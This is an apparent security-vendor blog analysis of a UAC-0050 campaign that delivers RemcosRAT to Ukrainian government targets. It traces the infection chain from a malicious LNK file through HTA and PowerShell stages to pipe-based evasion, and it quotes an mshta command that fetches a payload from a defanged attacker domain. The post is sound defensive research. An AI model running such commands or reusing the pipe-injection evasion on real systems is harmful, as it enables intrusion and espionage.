Authors: Karthickkumar Kathiresan, Shilpesh Trivedi


Known for its history of relentless cyber-attacks against Ukrainian targets, the UAC-0050 threat group is at it again. But this time, Uptycs researchers have discovered an advanced strategy that allows for a more clandestine data transfer channel, effectively circumventing detection mechanisms employed by Endpoint Detection and Response (EDR) and antivirus systems.


The group’s weapon of choice is RemcosRAT, a notorious malware for remote surveillance and control, which has been at the forefront of its espionage arsenal. However, in their latest operational twist, the UAC-0050 group has integrated a pipe method for interprocess communication, showcasing their advanced adaptability.


Leveraging pipes within the Windows operating system provides a covert channel for data transfer, skillfully evading detection by Endpoint Detection and Response (EDR) and antivirus systems. Although not entirely new, this technique marks a significant leap in the sophistication of the group's strategies.


Targeting the Ukrainian government, the UAC-0050's campaign hints at a politically motivated agenda with potential geopolitical implications.The employment of RemcosRAT and the innovative use of pipe methods for data movement spotlight the group's focus on stealth and intelligence gathering. While the possibility of state sponsorship remains speculative, the group's activities pose an undeniable risk, especially to government sectors reliant on Windows systems.


This blog outlines the technicalities of the attack, providing expert analysis from our researchers at Uptycs. From understanding the nature of pipes in Windows for interprocess communication to analyzing the real-world impact ofthese advanced evasion techniques, we offer a comprehensive look into this sophisticated cyber-espionage operation.


Initial investigation

Our Threat Research Team initiated an investigation after the Uptycs platform alerted to a suspicious .lnk file on December 21, 2023. Analysis revealed UAC-0050's deployment of RemcosRAT in a targeted cyber intelligence operation against Ukrainian government agencies.

The initial attack vector is yet to be pinpointed, though indications lean towards phishing or spam emails, masked as job propositions, targeting Ukrainian military personnel for consultancy roles with the Israel Defense Forces (IDF).


This deceptive tactic, as detailed in the document (Figure 1), involved roles centered around training IDF soldiers in modern warfare techniques, reflecting a complex ruse to infiltrate military networks.


Figure 1–RemcosRAT Military themeFigure 1–RemcosRAT Military theme



Corroborating these findings, the Ukrainian government, in early December 2023, officially acknowledged a similar attack pattern. As reported on their official website, this incident aligns with the modus operandi of UAC-0050, further solidifying the group's persistent and calculated application of RemcosRAT in their cyber-espionage endeavors.

Malware operationThe LNK file is responsible for initiating the download of an HTA file. Within this HTA file lies a VBS script that, upon execution, triggers a PowerShell script. This PowerShell scriptendeavors to download a malicious payload (word_update.exe) from a server. Upon launching, word_update.exe executes cmd.exe and shares malicious data through a pipe. Consequently, it leads to the launch of explorer.exe with the malicious RemcosRAT residing in the memory of explorer.exe.


Figure 2–RemcosRAT workflowFigure 2–RemcosRAT workflow

Technical analysis

The investigation begins with a .lnk file. A .lnk file is a Windowsshortcut that points to another file, folder, or application. It allows users to access the linked resource quickly without navigating to its location. Cybercriminals can create .lnk files that, while appearing to be shortcuts to legitimate applications or documents, actually point to and execute malicious software.

In this case, the malicious .lnk file gathers information regarding antivirus products installed on the target computer. It verifies if the display name corresponds to 'Windows Defender'. If so, it proceeds to replace the term with an empty string. As a result, the condition within the ‘if’ statement becomes false, preventing the execution of the ‘exit’ statement. Consequently, the script seamlessly continues with any subsequent code.


Figure 3–LNK fileFigure 3–LNK file


Towards the end of the .lnk file, the threat actor has obfuscated the URL string. Upon deobfuscation, the string is then executed using MSHTA. The execution code is provided below.

c:\windows\system32\mshta.exe" http[:]//new-tech-savvy[.]com/6[.]hta
We retrieved the 6.hta file for analysis, discovering that it contains a VBScript file with fully obfuscated script content.

Figure 4–HTA file contains VbscriptFigure 4–HTA file contains Vbscript



Following the successful deobfuscation of the VBScript, we obtained a PowerShell script. The snapshot below illustrates the deobfuscated code result.


The PowerShell script below represents the deobfuscated flow:


  1. It initializes a string encoded in Base64, referred to as $lcjcj, and a secondBase64-encoded string denoted as $VZnHIGNa.

  2. It creates an AES decryption object $WrwQUj with specific properties such as CipherMode, PaddingMode, BlockSize, KeySize, and Key, using the Base64-decoded value of $VZnHIGNa.

  3. It extracts the initialization vector (IV) from the payload.

  4. It creates a decryptor and decrypts a portion of the payload using AES.

  5. It creates memory streams and a GzipStream to decompress the decrypted payload.

  6. It converts the decompressed payload into a byte array.

  7. It converts the byte array to a UTF-8 string.8. It uses the | powershell - syntax to execute the decrypted payload as a new PowerShell process.

  9. The actual payload is contained in the variable $hQkGkZK. This payload is the result of executing the PowerShell code contained within the original Base64-encoded string $lcjcj


Figure 5–Uptycs alert: MSHTA execution with internetFigure 5–Uptycs alert: MSHTA execution with internet



The outcome ($hQkGkZK) of the deobfuscated process yielded another PowerShell script containing encoded data, as depicted in the snapshot below.


Figure 6–Powershell scriptFigure 6–Powershell script



  1. It creates file paths by leveraging the user's AppData directory and specific file names.2. It verifies the existence of particular files (word_update.exe and ofer.docx) using Test-Path.

  3. If these files are present, it invokes the DcO function to carry out actions based on the file extensions. In the absence of these files, it utilizes the JWF function to download data, writes it to a file using JBH, and subsequently calls DcO to perform actions based on the file extensions.


Figure 7–Powershell script and payload execution

Figure 7–Powershell script and payload execution



Uptycs captured all PowerShell activities deemed suspicious, presenting the de-obfuscated content in the snapshot.


Figure 8–Uptycs alert: powershell suspicious entryFigure 8–Uptycs alert: powershell suspicious entry


The payloads, namely word_update.exe and ofer.docx, are downloaded from the domain new-tech-savvy[.]com.

The payload files(Doc,exe) are placed in the root of the roaming folder(%appdata%).



Request for downloading word_update.exe.


Figure 9–Downloading executable payloadFigure 9–Downloading executable payload


Upon running word_update.exe, it generates a self copy file in a newly created folder within the roaming directory(%appdata%). However, the name of the self copy file is altered.Figure 10–Uptycs alert: Process execution from AppData folderFigure 10–Uptycs alert: Process execution from AppData folder



The malware established persistence by creating an entry in the startup folder through the generation of an LNK file. Consequently, fmTask_dbg.exe is executed each time the machine is booted.

C:\Users\<username>\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\fmTask_dbg.lnk
The file contains unusual resource data, which is then transferred to memory, and the content undergoes decryption through XOR operations. This is the first level of decryption.


Figure 11–Xor loopFigure 11–Xor loop


Following this, it invokes the WriteFile API function, where the file handle is denoted by 0x59c, pointing to an unnamed file: \filesystem\npfs. Unnamed pipes necessitate the passing of their handles tothe corresponding communicating processes to facilitate the exchange of data.


Figure 12–Handle of unnamed pipe object in which data written by WriteFile APIFigure 12–Handle of unnamed pipe object in which data written by WriteFile API


Threat actors often resort to techniques such as process injection or hollowing to execute malicious code within authentic processes. However, employing a clever strategy, attackers leverage pipes to effectively bypass detection by EDR/AV systems. Initially, the malicious actor spawned a legitimate child process, cmd.exe, using the CreateProcess API without activating the suspended mode. Subsequently, the attacker implemented a plan to move the decrypted output data from the first level (depicted in Figure 11) to cmd.exe.


Figure 13–Uptycs event alert: Createpipe Write eventFigure 13–Uptycs event alert: Createpipe write event

This process was executed through the WriteFile API, utilizing a handle directed at an unnamed pipe. Upon successful completion, the data was transmittedfrom word_update.exe to cmd.exe. Figure 14 visually represents the memory of cmd.exe with Read-Write protection, housing the malicious data shared through the pipe.


Figure 14– Data moved to memory of cmd.exeFigure 14– Data moved to memory of cmd.exe


The data in the memory is decrypted during runtime and initiates the execution of the Remcos Remote Access Trojan (RAT). After that launch explorer and moved malicious data in that memory.


Figure 15–Remcos binary in the memory of cmd.exe (RW)Figure 15–Remcos binary in the memory of cmd.exe (RW)

The Remcos execution flow from word_update.exe.


Figure 16–Remcos execution flow from word_update.exeFigure 16–Remcos execution flow from word_update.exe


Uptycs capture of the explorer.exe with malicious activities.fig_17Figure 17–Uptycs alert: Explorer.exe with malicious activity

Remcos binary

Upon extracting the binary from cmd.exe memory, we obtained the RemcosRAT payload. Within the payload's Resource section, there is an RCDATA that stores data encrypted using RC4.


Figure 18–RC4 encrypted data in RCDATAFigure 18–RC4 encrypted data in RCDATA


By utilizing CyberChef, we decrypted the data, revealing the configuration file of RemcosRAT.


Figure 19–Cyberchef decryptionFigure 19–Cyberchef decryption




C2 Host: port:password:
Botnet: RemoteHost
Mutex: Rmc-D6LMC9
copy file: remcos.exe
copy folder: Remcos
Keylog folder: Remcos
Screenshot folder: Screenshots
Keylog file: logs.dat

The Remcos version identified is 4.9.2 Pro, and it has successfully gathered information about the victim, including the computer name and username.

RemcosRAT removes cookies and login data from the following browsers: Internet Explorer, Firefox, and Chrome. This action aids in preventing the recording of malware entries on the victim machines.


Figure 20–Browser dataFigure 20–Browser data


It configures registry values for the executable path, license, and time associated with the thread.

Figure 21–Registry keyFigure 21–Registry key


Request for downloading ofer.docx.


Figure 22–Downloading document payloadFigure 22–Downloading document payload


Dropped file alert from uptycs.


Figure 23–Uptycs alert: Dropped doc fil

Figure 23–Uptycs alert: Dropped doc filee

After thedownload of ofer.docx is complete, it is executed using winword.exe.This file does not contain macros; instead, it displays a defensive message from a consultant to the Israel Defense Forces (IDF).

